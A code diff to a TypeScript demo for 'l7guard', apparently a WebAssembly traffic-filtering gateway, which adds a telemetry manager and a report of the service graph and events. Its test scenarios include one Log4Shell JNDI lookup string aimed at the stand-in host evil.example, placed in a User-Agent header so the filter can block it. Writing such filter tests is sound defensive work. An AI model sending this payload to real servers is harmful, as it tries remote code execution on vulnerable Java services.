@@ -5,7 +5,12 @@ import { readFileSync, existsSync } from "node:fs";
 import { request } from "node:http";
 import { fileURLToPath } from "node:url";
 import { execFileSync } from "node:child_process";
+import { mkdtempSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { randomBytes } from "node:crypto";
 import { startGateway, type Gateway } from "../host/gateway.ts";
+import { buildManager, type Manager } from "../manager/server.ts";
 import { gatewayUrls, startService, type DemoService } from "./services.ts";
 
 const root = fileURLToPath(new URL("..", import.meta.url));
@@ -34,6 +39,53 @@ const SCENARIOS: Scenario[] = [
   { service: "payments", method: "GET", path: "/health", headers: { "user-agent": "${jndi:ldap://evil.example/a}" }, label: "Log4Shell probe in User-Agent" },
   { service: "orders", method: "GET", path: "/orders/1002", headers: { "x-debug": "1" }, label: "debug header (alert only)" },
 ];
+
+const COLLECTOR_CLUSTER = "outbound|9080||l7guard-manager.l7guard-system.svc.cluster.local";
+
+export interface Demo {
+  services: DemoService[]; gateways: Gateway[]; manager: Manager; managerUrl: string; apiToken: string;
+  send(s: Scenario): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string; ms: number }>;
+  stop(): Promise<void>;
+}
+
+// Starts the manager, the services and their gateways (each gateway reports telemetry to the manager).
+export async function startDemo(opts: { dataDir?: string; quiet?: boolean; flushIntervalMs?: number; log?: (line: string) => void } = {}): Promise<Demo> {
+  const log = opts.log ?? ((line: string) => process.stdout.write(`${line}\n`));
+  const wasmPath = `${root}build/l7guard.wasm`;
+  if (!existsSync(wasmPath)) execFileSync(process.execPath, [`${root}scripts/build.mjs`, "--only", "l7guard"], { stdio: "inherit" });
+  const wasm = readFileSync(wasmPath);
+  const apiToken = randomBytes(18).toString("base64url");
+  const collectorToken = randomBytes(18).toString("base64url");
+  const dataDir = opts.dataDir ?? mkdtempSync(join(tmpdir(), "l7guard-demo-"));
+  const manager = await buildManager({ dataDir, apiTokens: [{ token: apiToken, role: "admin" }], collectorTokens: [collectorToken] });
+  const managerUrl = await manager.app.listen({ host: "127.0.0.1", port: 0 });
+  const policy = { ...POLICY, collector: { cluster: COLLECTOR_CLUSTER, authority: "l7guard-manager", token: collectorToken, flushIntervalMs: opts.flushIntervalMs ?? 2000 } };
+  const services = await startServices();
+  const gateways: Gateway[] = [];
+  for (const s of services) {
+    const gw = await startGateway({
+      listen: { host: "127.0.0.1", port: 0 }, upstream: s.url, wasm, config: JSON.stringify(policy),
+      identity: { namespace: s.namespace, workload: s.name, app: s.name, version: "v1" }, name: s.name,
+      clusters: { [COLLECTOR_CLUSTER]: managerUrl },
+      log: (line) => { if (!opts.quiet) log(`  ${line}`); },
+    });
+    gateways.push(gw);
+    gatewayUrls.set(s.name, gw.url);
+  }
+  return {
+    services, gateways, manager, managerUrl, apiToken, send,
+    async stop() {
+      for (const gw of gateways) await gw.close(); // flushes each filter's last telemetry window
+      for (const s of services) { s.server.close(); s.server.closeAllConnections(); }
+      await manager.close();
+    },
+  };
+}
+
+async function api(demo: Demo, path: string): Promise<any> {
+  const r = await fetch(`${demo.managerUrl}${path}`, { headers: { authorization: `Bearer ${demo.apiToken}` } });
+  return r.json();
+}
 
 function parseArgs(argv: string[]): { duration?: number; requests?: number; interval: number; quiet: boolean } {
   const out = { duration: undefined as number | undefined, requests: undefined as number | undefined, interval: 700, quiet: false };
@@ -64,13 +116,8 @@ function send(s: Scenario): Promise<{ status: number; headers: Record<string, st
   });
 }
 
-export async function main(argv: string[]): Promise<void> {
-  const args = parseArgs(argv);
-  const wasmPath = `${root}build/l7guard.wasm`;
-  if (!existsSync(wasmPath)) execFileSync(process.execPath, [`${root}scripts/build.mjs`, "--only", "l7guard"], { stdio: "inherit" });
-  const wasm = readFileSync(wasmPath);
-
-  const services: DemoService[] = [
+async function startServices(): Promise<DemoService[]> {
+  return [
     await startService("shop", "frontend", {
       "GET /products": () => ({ status: 200, body: [{ id: 1, name: "lamp", price: 20 }, { id: 2, name: "desk", price: 150 }] }),
       "POST /checkout": async (req, ctx) => {
@@ -91,25 +138,25 @@ export async function main(argv: string[]): Promise<void> {
     }),
   ];
 
-  const gateways: Gateway[] = [];
-  for (const s of services) {
-    const gw = await startGateway({
-      listen: { host: "127.0.0.1", port: 0 }, upstream: s.url, wasm, config: JSON.stringify(POLICY),
-      identity: { namespace: s.namespace, workload: s.name, app: s.name, version: "v1" }, name: s.name,
-      log: (line) => { if (!args.quiet) process.stdout.write(`  ${line}\n`); },
-    });
-    gateways.push(gw);
-    gatewayUrls.set(s.name, gw.url);
-    console.log(`${s.namespace}/${s.name.padEnd(9)} service ${s.url}  gateway ${gw.url}  admin ${gw.adminUrl}`);
+}
+
+export async function main(argv: string[]): Promise<void> {
+  const args = parseArgs(argv);
+  const demo = await startDemo({ quiet: args.quiet, flushIntervalMs: 1000 });
+  const { services, gateways } = demo;
+  console.log(`manager        ${demo.managerUrl}  (API token: ${demo.apiToken})`);
+  for (let i = 0; i < services.length; i++) {
+    const s = services[i];
+    console.log(`${s.namespace}/${s.name.padEnd(9)} service ${s.url}  gateway ${gateways[i].url}  admin ${gateways[i].adminUrl}`);
   }
-  console.log(`\nl7guard demo: ${services.length} services, each behind its own gateway (policy: enforce, ${POLICY.rules.length} rules). Ctrl-C to stop.\n`);
+  console.log(`\nl7guard demo: ${services.length} services, each behind its own gateway (policy: enforce, ${POLICY.rules.length} rules), reporting to the manager. Ctrl-C to stop.`);
+  console.log(`  try: curl -H 'authorization: Bearer ${demo.apiToken}' ${demo.managerUrl}/api/v1/graph\n`);
 
   let stopping = false;
   const stop = async () => {
     if (stopping) return;
     stopping = true;
-    for (const gw of gateways) await gw.close();
-    for (const s of services) { s.server.close(); s.server.closeAllConnections(); }
+    await demo.stop();
   };
   process.once("SIGINT", () => { void stop().then(() => process.exit(0)); });
   process.once("SIGTERM", () => { void stop().then(() => process.exit(0)); });
@@ -120,7 +167,7 @@ export async function main(argv: string[]): Promise<void> {
   for (let i = 0; i < limit && Date.now() < deadline && !stopping; i++) {
     const s = SCENARIOS[i % SCENARIOS.length];
     try {
-      const r = await send(s);
+      const r = await demo.send(s);
       const verdict = String(r.headers["x-l7guard"] ?? "none");
       tally.total++;
       if (verdict === "block") tally.blocked++; else if (verdict === "alert") tally.alerted++; else tally.passed++;
@@ -135,5 +182,17 @@ export async function main(argv: string[]): Promise<void> {
   }
   const blocked = gateways.map((g) => `${g.host.stats.value("l7guard_requests_blocked_total") ?? 0n}`).join("/");
   console.log(`\ndone: ${tally.total} requests, ${tally.passed} passed, ${tally.blocked} blocked, ${tally.alerted} alerted, ${tally.errors} errors; blocked per gateway (frontend/orders/payments): ${blocked}`);
-  await stop();
+  // Closing the gateways flushes their telemetry; then show what the manager learned.
+  for (const gw of gateways) await gw.close();
+  const graph = await api(demo, "/api/v1/graph");
+  const endpoints = await api(demo, "/api/v1/endpoints");
+  const events = await api(demo, "/api/v1/events?limit=5");
+  console.log(`\nservice graph (from the manager):`);
+  for (const e of graph.edges) console.log(`  ${e.source} -> ${e.destination}: ${e.count} requests, ${e.blocked} blocked, avg ${e.latencyMsAvg.toFixed(1)} ms`);
+  console.log(`API inventory:`);
+  for (const e of endpoints.endpoints) console.log(`  ${e.service.padEnd(14)} ${e.method.padEnd(5)} ${e.pathTemplate}  (${e.count})`);
+  console.log(`latest events:`);
+  for (const e of events.events) console.log(`  ${e.action} ${e.category}:${e.type} ${e.method ?? ""} ${e.pathTemplate ?? ""} from ${e.source}`);
+  for (const s of services) { s.server.close(); s.server.closeAllConnections(); }
+  await demo.manager.close();
 }
